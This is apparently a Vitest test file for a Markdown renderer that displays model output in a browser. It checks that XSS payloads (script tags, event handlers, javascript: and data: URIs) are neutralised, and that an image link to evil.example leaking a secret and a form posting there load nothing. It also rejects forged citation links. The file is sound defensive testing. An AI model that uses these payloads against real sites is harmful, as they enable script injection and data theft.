// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

/** Parse the output like the browser will and list everything that could run code. */
function dangers(html: string): string[] {
  const root = document.createElement('div');
  root.innerHTML = html;
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'img', 'svg', 'style', 'form'].includes(tag)) found.push(`<${tag}>`);
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) found.push(`${tag}[${attr.name}]`);
      if (/^\s*(javascript|data|vbscript):/i.test(attr.value)) found.push(`${tag}[${attr.name}=${attr.value}]`);
    }
  }
  return found;
}

describe('renderMarkdown', () => {
  it('renders ordinary Markdown', () => {
    const html = renderMarkdown('# Title\n\n**bold** and `code`\n\n- a\n- b');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>a</li>');
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '[click](javascript:alert(1))',
    '<a href="javascript:alert(1)">click</a>',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![x](javascript:alert(1))',
    '<svg onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<div onclick="alert(1)">hi</div>',
    '<form action="https://evil.example"><button>go</button></form>',
    '<<script>script>alert(1)<</script>/script>',
    '`code` <details open ontoggle=alert(1)>',
  ])('produces nothing executable from %s', (source) => {
    const html = renderMarkdown(source);
    expect(dangers(html)).toEqual([]);
    expect(html).not.toMatch(/<script/i);
  });

  it('shows raw HTML written by the model as text', () => {
    const html = renderMarkdown('Use <script>alert(1)</script> carefully');
    const root = document.createElement('div');
    root.innerHTML = html;
    expect(root.textContent).toContain('<script>alert(1)</script>');
  });

  it('shows an image as its alt text and loads nothing', () => {
    const html = renderMarkdown('![a chart](https://evil.example/leak?q=secret)');
    expect(html).not.toContain('evil.example');
    expect(html).toContain('[image: a chart]');
  });

  it('opens web links in a new tab without an opener', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('See [docs](https://example.com/a) or https://example.org');
    const links = [...root.querySelectorAll('a')];
    expect(links).toHaveLength(2);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('turns known citations into citation links and leaves unknown ones as text', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('Redis is fast [1]. Vectors too [1, 2]. Not this [7] or `[1]`.', [1, 2]);
    const cites = [...root.querySelectorAll('[data-testid="citation-link"]')];
    expect(cites.map((a) => a.getAttribute('data-cite'))).toEqual(['1', '1', '2']);
    expect(cites.every((a) => !a.hasAttribute('target'))).toBe(true);
    expect(root.textContent).toContain('[7]');
    expect(root.querySelector('code')?.textContent).toBe('[1]');
  });

  it('keeps a Markdown link whose text is a number a link', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('[1](https://example.com)', [1]);
    expect(root.querySelector('[data-testid="citation-link"]')).toBeNull();
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://example.com');
  });

  it('gives the model no way to forge a citation link with raw HTML', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('<a data-cite="1" data-testid="citation-link" href="#x">1</a>', [1]);
    expect(root.querySelector('a')).toBeNull();
  });
});
